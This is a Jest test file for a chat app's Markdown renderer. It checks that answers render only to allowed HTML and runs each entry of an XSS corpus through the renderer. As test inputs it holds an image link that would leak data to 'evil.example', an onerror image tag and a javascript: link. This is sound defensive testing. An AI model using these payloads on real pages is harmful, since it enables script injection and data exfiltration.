import { readFileSync } from "node:fs";
import { expect, test } from "@jest/globals";
import { renderToStaticMarkup } from "react-dom/server";
import { Markdown } from "../src/chat/markdown.tsx";

/** What an answer may say to make a page do what it should not. */
const CORPUS = JSON.parse(
  readFileSync(new URL("xss-corpus.json", import.meta.url), "utf8"),
) as string[];

const drawn = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

const ALLOWED = new Set(
  "div p strong em del ul ol li pre code blockquote hr br table thead tbody tr th td a".split(" "),
);
const ATTRIBUTES = new Set("class dir tabindex role aria-label start href target rel".split(" "));

/** Every element of the markup, with its attributes. */
const elementsOf = (markup: string) =>
  [...markup.matchAll(/<([a-z][\w-]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = "", attributes = ""]) => ({
      name,
      attributes: [...attributes.matchAll(/([\w-]+)="([^"]*)"/g)].map(
        ([, key = "", value = ""]) => [key, value] as const,
      ),
    }),
  );

function faultsOf(markup: string): string[] {
  return elementsOf(markup).flatMap(({ name, attributes }) => [
    ...(ALLOWED.has(name) ? [] : [`element ${name}`]),
    ...attributes.flatMap(([key, value]) => {
      if (!ATTRIBUTES.has(key)) return [`attribute ${key}`];
      return key === "href" && !/^https?:\/\//.test(value) ? [`link to ${value}`] : [];
    }),
  ]);
}

test("an answer is drawn as what it says", () => {
  expect(drawn("I will remind you to **call mum**.")).toBe(
    '<div class="markdown"><p dir="auto">I will remind you to <strong>call mum</strong>.</p></div>',
  );
  expect(drawn("1. one\n2. two")).toContain('<ol start="1"><li>one</li><li>two</li></ol>');
  expect(drawn("`a<b`")).toContain('<code dir="ltr">a&lt;b</code>');
  expect(drawn("| a | b |\n| - | - |\n| 1 | 2 |")).toContain("<td>1</td><td>2</td>");
});

test("a link says where it leads, and opens without telling where from", () => {
  expect(drawn("[the guide](https://example.org/x)")).toContain(
    '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">the guide (example.org)</a>',
  );
});

test("markup in an answer is text, and a picture is never fetched", () => {
  expect(drawn("<b>bold</b>")).not.toContain("<b>");
  expect(drawn("![x](https://evil.example/?d=secret)")).not.toMatch(/<img|src=/);
});

test.each(CORPUS)("nothing comes of %j but text, wherever it is cut", (payload) => {
  for (let end = 1; end <= payload.length; end += 1)
    expect(faultsOf(drawn(payload.slice(0, end)))).toEqual([]);
});

test("what would be a fault is seen as one", () => {
  expect(faultsOf('<img src="x" onerror="y">')).toHaveLength(3);
  expect(faultsOf('<a href="javascript:x">')).toHaveLength(1);
});
